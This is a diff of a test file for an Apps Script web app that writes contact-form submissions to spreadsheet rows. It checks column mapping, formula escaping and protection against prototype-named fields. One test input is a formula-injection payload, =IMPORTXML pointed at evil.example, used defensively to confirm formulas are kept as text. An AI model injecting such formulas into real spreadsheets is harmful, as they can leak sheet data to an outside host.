@@ -113,7 +113,7 @@ describe('the Apps Script', () => {
   const failure = expect.objectContaining({ reason: expect.stringMatching(/^HTTP 200: the Apps Script failed/) });
 
   it('writes a row with the columns of the heading, once for each contact request', async () => {
-    await using app = await startWebApp(['id', 'createdAt', 'message', 'rooms', 'extra', 'company', 'missing']);
+    await using app = await startWebApp(['id', 'createdAt', 'message', 'extra.rooms', 'extra', 'company', 'missing']);
     const { extra, ...plain } = exampleContact;
     const other = { ...plain, id: '00000000-0000-4000-8000-000000000000', message: 'Hello' };
     await app.deliver(exampleContact);
@@ -127,17 +127,30 @@ describe('the Apps Script', () => {
   });
 
   it('keeps formulas, numbers and apostrophes as the texts that they are', async () => {
-    await using app = await startWebApp(['id', 'phone', 'message', '=1+1']);
+    await using app = await startWebApp(['id', 'phone', 'message', 'extra.=1+1']);
     const texts = ['+1 202 555 0142', '=IMPORTXML("https://evil.example"; "//a")', "'=1+1"];
     const [phone = '', message = '', extra = ''] = texts;
     await app.deliver({ ...exampleContact, phone, message, extra: { '=1+1': extra } });
     expect(app.rows[1]?.slice(1)).toEqual(texts);
   });
 
-  it('lets no field of a form take the place of the id', async () => {
-    await using app = await startWebApp(['id', 'email']);
-    await app.deliver({ ...exampleContact, extra: { id: 'x', email: 'eve@example.com' } });
-    expect(app.rows[1]).toEqual([exampleContact.id, exampleContact.email]);
+  it("lets no field of a form fill a column of the service's", async () => {
+    const columns = ['id', 'email', 'site', 'form', 'campaign', 'releasedAt'];
+    await using app = await startWebApp(columns);
+    const { id, createdAt, email } = exampleContact;
+    const extra = Object.fromEntries([...columns, 'extra'].map((name) => [name, 'x']));
+    await app.deliver({ id, createdAt, email, extra });
+    expect(app.rows[1]).toEqual([id, email, '', '', '', '']);
+  });
+
+  it('leaves a column empty whose name every object has', async () => {
+    const names = ['constructor', '__proto__', 'toString'];
+    await using app = await startWebApp(['id', ...names, ...names.map((name) => `extra.${name}`)]);
+    await app.deliver(exampleContact);
+    expect(app.rows[1]).toEqual([exampleContact.id, ...Array(6).fill('')]);
+    const { createdAt } = exampleContact;
+    await app.deliver({ id: 'other', createdAt, extra: JSON.parse('{"__proto__":"x"}') });
+    expect(app.rows[2]).toEqual(['other', '', '', '', '', 'x', '']);
   });
 
   it.each(['', 'x', key.toUpperCase()])('refuses the key "%s", so that the service retries', async (wrong) => {
